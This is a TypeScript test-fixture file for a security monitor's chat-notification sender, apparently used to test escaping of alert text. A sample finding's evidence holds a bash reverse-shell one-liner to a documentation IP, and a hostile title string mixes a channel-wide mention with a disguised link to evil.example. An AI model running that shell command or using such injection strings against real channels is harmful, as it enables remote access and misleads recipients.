import type { StoredFinding } from '../../../src/protocol/finding.js';
import { expect } from 'vitest';
import { DeliveryError, type NotificationMessage } from '../../../src/cp/notify/channel-sender.js';

/** The hostile title the tests send: a broadcast mention, a disguised link, a user mention and markup. */
export const HOSTILE_TITLE = '<!channel> <https://evil.example|click> <@U123> & co';

/** A stored finding with plausible fields, overridden by `over`. */
export function finding(over: Partial<StoredFinding> = {}): StoredFinding {
  return {
    id: 42,
    fingerprint: 'fp-1',
    host: 'web-1',
    agent: 'proc-watch',
    agent_version: '1.0.0',
    run_id: 'r-7',
    seq: 1,
    ts: 1_700_000_000_000,
    received_at: 1_700_000_000_100,
    status: 'open',
    indicators: [],
    severity: 'HIGH',
    title: 'Reverse shell to 203.0.113.9',
    category: 'process',
    resource: 'pid:4242',
    evidence: ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'parent: nginx'],
    dedup_key: '',
    recommended_action: 'Kill the process and rotate the host credentials.',
    tags: [],
    attributes: {},
    ...over,
  };
}

/** A one-finding message. */
export function findingMessage(f: StoredFinding = finding(), over: Partial<NotificationMessage> = {}): NotificationMessage {
  return { kind: 'finding', channel: 'ops', findings: [f], total: 1, cpUrl: 'https://cp.example:8443', deliveryId: 'd-1', createdAt: 1_700_000_001_000, ...over };
}

/** A digest of `n` groups standing for `total` findings. */
export function digestMessage(n: number, total: number): NotificationMessage {
  const severities = ['CRITICAL', 'HIGH', 'MEDIUM', 'LOW', 'INFO'] as const;
  const findings = Array.from({ length: n }, (_, i) => finding({ id: i + 1, severity: severities[i % 5], title: `Group ${i + 1}`, host: `host-${i + 1}` }));
  return { kind: 'digest', channel: 'ops', findings, total, cpUrl: 'https://cp.example:8443', deliveryId: 'd-2', createdAt: 1_700_000_001_000 };
}

/** The DeliveryError a send failed with (the test fails when it did not fail, or failed otherwise). */
export async function failure(p: Promise<unknown>): Promise<DeliveryError> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(DeliveryError);
  return err as DeliveryError;
}
